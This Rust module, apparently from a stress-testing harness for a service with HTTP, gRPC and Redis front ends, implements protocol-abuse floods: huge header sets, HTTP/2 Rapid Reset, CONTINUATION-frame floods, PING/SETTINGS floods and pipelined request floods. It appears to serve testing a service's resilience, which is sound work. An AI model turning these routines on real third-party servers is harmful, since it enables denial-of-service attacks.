//! Attacks by many small things on one connection.

use super::crowd::Script;
use super::ear::Speech;
use super::frames::{self, FRAME, PREFACE};
use super::{FrontEnd, Strike};
use std::fmt::Write as _;
use std::io;

/// Frames that are sent in one go.
const BATCH: u64 = 100;
/// Connections at the same time.
const FLOODS: usize = 4;
const HEADERS: usize = 100_000;

pub(super) fn headers(strike: &mut Strike<'_>) -> io::Result<()> {
    let mut many = "GET /_ping HTTP/1.1\r\nHost: x\r\n".to_owned();
    for number in 0..HEADERS {
        // Writing to a String does not fail.
        let _ = write!(many, "X-{number}: y\r\n");
    }
    let one = b"GET /_ping HTTP/1.1\r\nHost: x\r\nX-Long: ";
    let piece = vec![b'x'; 64 << 10];
    let http = [
        Script::new(Speech::Http1, many.into_bytes()),
        Script::new(Speech::Http1, *one).repeat(piece, strike.size.body_bytes >> 16),
    ];
    // As many as fit into one frame, which makes a list far larger than what is allowed.
    let small = ["x"; 2_500].map(|name| (name, "y"));
    let long = "x".repeat(FRAME - 200);
    let two = |call: Vec<u8>| {
        [small.as_slice(), &[("x-long", &*long)]]
            .map(|fields| [&*call, &frames::block(fields.iter().copied())].concat())
    };
    let requests = |call: Vec<u8>| {
        let mut text = PREFACE.to_vec();
        for (turn, block) in two(call).into_iter().enumerate() {
            let stream = u32::try_from(turn * 2 + 1).unwrap_or(1);
            text.extend_from_slice(&frames::headers(stream, &block, true));
        }
        Script::new(Speech::Http2, text).leaving(2)
    };
    let plain = requests(frames::request("GET", "/_ping"));
    let grpc = requests(frames::call("/KafkaPixy/ListTopics"));
    strike.again(|strike| {
        strike.crowd(FrontEnd::Http, http.clone())?;
        strike.crowd(FrontEnd::Http, [plain.clone()])?;
        strike.crowd(FrontEnd::Grpc, [grpc.clone()])
    })
}

/// Floods HTTP and gRPC at the same time, by HTTP/2.
fn flood(strike: &mut Strike<'_>, http: &Script, grpc: &Script) -> io::Result<()> {
    strike.again(|strike| {
        for (front_end, script) in [(FrontEnd::Http, http), (FrontEnd::Grpc, grpc)] {
            strike.crowd(front_end, std::iter::repeat_n(script.clone(), FLOODS))?;
        }
        Ok(())
    })
}

pub(super) fn rapid_reset(strike: &mut Strike<'_>) -> io::Result<()> {
    fn batch(turn: u64, block: &[u8]) -> Vec<u8> {
        let streams = turn * BATCH..(turn + 1) * BATCH;
        let streams = streams.map(|number| u32::try_from(number * 2 + 1).unwrap_or(1));
        streams
            .flat_map(|stream| [frames::headers(stream, block, true), frames::reset(stream)])
            .flatten()
            .collect()
    }
    let times = strike.size.requests / BATCH;
    let script = Script::new(Speech::Http2, PREFACE);
    let http = script.clone().make(
        |turn| batch(turn, &frames::request("GET", "/v1/topics")),
        times,
    );
    let grpc = script.make(
        |turn| batch(turn, &frames::call("/KafkaPixy/ListTopics")),
        times,
    );
    flood(strike, &http, &grpc)
}

pub(super) fn continuations(strike: &mut Strike<'_>) -> io::Result<()> {
    let begun = |call: &[u8]| {
        let head = [PREFACE, &frames::open_headers(1, call)].concat();
        Script::new(Speech::Http2, head)
    };
    let field = frames::block([("x-more", "y")]);
    let frames = frames::continuation(1, &field).repeat(100);
    let times = strike.size.requests / BATCH;
    let http = begun(&frames::request("GET", "/_ping")).repeat(frames.clone(), times);
    let grpc = begun(&frames::call("/KafkaPixy/ListTopics")).repeat(frames, times);
    flood(strike, &http, &grpc)
}

pub(super) fn control_frames(strike: &mut Strike<'_>) -> io::Result<()> {
    let both = [frames::ping(), frames::setting(0x3, 100)].concat();
    let script = Script::new(Speech::Http2, PREFACE)
        .repeat(both.repeat(50), strike.size.requests / BATCH)
        .deaf();
    flood(strike, &script, &script)
}

pub(super) fn pipeline(strike: &mut Strike<'_>) -> io::Result<()> {
    let times = strike.size.requests / BATCH;
    let push = format!("RPUSHX topics:{} x\r\n", strike.target.topic);
    let redis = [b"PING\r\n".repeat(50), push.into_bytes().repeat(50)].concat();
    let redis = Script::new(Speech::Redis, *b"").repeat(redis, times);
    let http = b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n".repeat(100);
    let http = Script::new(Speech::Http1, *b"").repeat(http, times);
    strike.again(|strike| {
        strike.crowd(FrontEnd::Redis, std::iter::repeat_n(redis.clone(), FLOODS))?;
        strike.crowd(FrontEnd::Http, std::iter::repeat_n(http.clone(), FLOODS))
    })
}
